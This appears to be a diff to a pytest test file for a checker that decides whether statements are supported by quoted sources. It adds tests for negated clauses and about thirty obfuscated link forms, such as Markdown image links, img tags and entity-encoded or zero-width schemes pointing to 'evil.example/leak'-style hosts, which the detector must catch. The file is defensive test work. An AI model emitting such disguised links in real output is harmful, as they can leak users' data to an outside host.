@@ -1,11 +1,14 @@
 """What code can check: values, names, quoted words, speakers, plain negation; and which statements are copies."""
 
+import time
+
 import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
 from qa import gate
 from qa.gate import Finding, SupportQuote, check
+from qa.gate.addresses import unknown_addresses
 
 BRIDGE = "The bridge was built by Roman engineers in 98 AD and restored in 1543."
 FARES = "A single ticket costs $2.25, and a transfer 25 cents."
@@ -205,10 +208,10 @@ def test_a_direct_quotation_keeps_its_speaker(statement: str, right: bool) -> No
     [
         (BRIDGE, BRIDGE),
         ("It was painted red.", "It was painted red. It is still there."),
-        ("The bridge was restored in 1543", "The bridge was restored in 1543, twelve years after the flood."),
+        ("The bridge was restored in 1543", "Moreover, the bridge was restored in 1543."),
     ],
 )
-def test_a_copied_sentence_or_main_clause_is_supported(statement: str, quote: str) -> None:
+def test_a_copied_sentence_is_supported_also_without_its_opening_word(statement: str, quote: str) -> None:
     assert ask(statement, quote) == Finding("supported")
 
 
@@ -221,10 +224,38 @@ def test_a_copied_sentence_or_main_clause_is_supported(statement: str, quote: st
         ("the plant will close in March", "Will it be so that the plant will close in March?"),
         ("The earth is flat.", "“The earth is flat.” So wrote a man in Ohio."),
         ("The bridge was built by Romans.", "Romans built the bridge."),
+        ("The bridge will be restored in 1543.", "Moreover, the bridge will be restored in 1543 if it lasts."),
     ],
 )
 def test_what_something_governs_or_other_words_are_not_confirmed_by_code(statement: str, quote: str) -> None:
     assert ask(statement, quote).verdict != "supported"
+
+
+@pytest.mark.parametrize(
+    "rest",
+    [
+        " (false).",
+        " (False!).",
+        "; this is wrong.",
+        " — a myth.",
+        " – a myth.",
+        ", Tom lied.",
+        ", which is a lie.",
+        ": a joke.",
+        ", in Monopoly money.",
+        "; zero were enrolled.",
+        ", 12 years later.",
+        ", and nobody was.",
+        " ... in a dream.",
+        "/never.",
+    ],
+)
+@pytest.mark.parametrize("opener", ["", "Moreover, "])
+def test_a_clause_that_its_sentence_may_take_back_is_not_confirmed_by_code(opener: str, rest: str) -> None:
+    for statement in ("The mayor took all the money", "The mayor took all the money."):
+        said = statement.rstrip(".") if not opener else "the" + statement.rstrip(".")[3:]
+        assert ask(statement, f"{opener}{said}{rest}").verdict != "supported"
+        assert ask(statement, f"It rained. {opener}{said}{rest} It was late.").verdict != "supported"
 
 
 @pytest.mark.parametrize(
@@ -301,3 +332,77 @@ def test_a_link_that_stands_in_a_quote_the_metadata_or_the_question_passes() -> 
         == ()
     )
     assert ask("It is www.example.org.", "It is old.", question="Is it www.example.org?").problems == ()
+
+
+@pytest.mark.parametrize(
+    "link",
+    [
+        "![x](https:evil.example/leak)",
+        "![x](http:evil.example/l)",
+        "![x](https:/evil.example/l)",
+        r"![x](http:\/\/evil.example/l)",
+        "![x](&sol;&sol;evil.example/l)",
+        "![x](/&Tab;/evil.example/l)",
+        "![x](h&#x0A;ttps:evil.example)",
+        "![x](<https:evil.example/a b>)",
+        "[x](ftp:evil.example)",
+        "[x](vscode:leak)",
+        "[x](file:leak)",
+        "[x](sms:1?leak)",
+        "<vscode:leak>",
+        "_http://evil.example/l_",
+        "_//evil.example/l_",
+        "_www.evil.example_",
+        "ｗww.evil.example",
+        "h\u200bttp://evil.example/l",
+        "<img src=https:evil.example>",
+        "<img alt='<' src='/&#9;/evil.example'>",
+        "evil.com/leak",
+        "evil.md/leak",
+        "evil.example?q=leak",
+        "leak.evil.com",
+        "a@evil.example",
+        "a&#64;evil.example",
+        "https://known.org/X_(y)leak",
+        "![x](https://known.org/X_(y)leak)",
+        "![x](<https://known.org/X_(y) leak>)",
+        'https://known.org/X_(y)"leak',
+        "https://known.org/X_(y)[leak",
+        "leak.known.org",
+    ],
+)
+def test_no_way_to_write_an_address_gets_around_the_check(link: str) -> None:
+    """Each is a link, or is fetched, somewhere: in Markdown, HTML, a browser, or a chat that looks for addresses."""
+    found = ask(f"The bridge opened in 2019 {link}.", "The bridge opened in 2019.", title="https://known.org/X_(y)")
+    assert found.verdict == "unsupported"
+    assert any("the address" in problem for problem in found.problems)
+
+
+@pytest.mark.parametrize(
+    "statement",
+    [
+        "Ferries and/or boats run 24/7, e.g. daily, i.e. always, w/o a pause.",
+        "It runs at 40 km/h or 1.5km/h, with TCP/IP; ratio 3:4, s.12/13, v1.2/v1.3, ½, p<0.05.",
+        "The U.S./Canada border is open at 10:30, data: none, file: none, tel: none, http: and HTTPS.",
+        "It is in config/app.toml, and written for Node.js/Express.",
+        "README.md/CHANGELOG.md are kept; see restic.readthedocs.io or known.org.",
+        "System.Net.Sockets, std::vector<int> and array[0] (x): a < b and c = 3.",
+        "Write to <info@known.org>, mailto:info@known.org or info@known.org.",
+        "See **https://known.org/X_(y)**, [here](https://known.org/X_(y)), or <https://known.org/X_(y)>.",
+        r"See http://a\_b.org/c\_d and _http://a&#95;b.org/c_d_.",
+        'See [the map](maps/a.md) and <a href="https://known.org/X_(y)">this</a>.',
+    ],
+)
+def test_what_only_looks_like_an_address_or_is_a_quoted_one_passes(statement: str) -> None:
+    known = (
+        "Node.js and Express, config/app.toml, README.md, CHANGELOG.md; info@known.org, https://known.org/X_(y) "
+        "(docs), [map](maps/a.md), http://a_b.org/c_d, restic.readthedocs.io"
+    )
+    assert not any("the address" in problem for problem in ask(statement, "It is old.", title=known).problems)
+
+
+@pytest.mark.parametrize("piece", ["a.", "a", "<a ", "](", "](x(", "a-.", "a@", '="', "://", "&#"])
+def test_looking_for_addresses_takes_no_time(piece: str) -> None:
+    started = time.perf_counter()
+    assert list(unknown_addresses("It is old.", [piece * 30_000])) == []
+    assert time.perf_counter() - started < 5
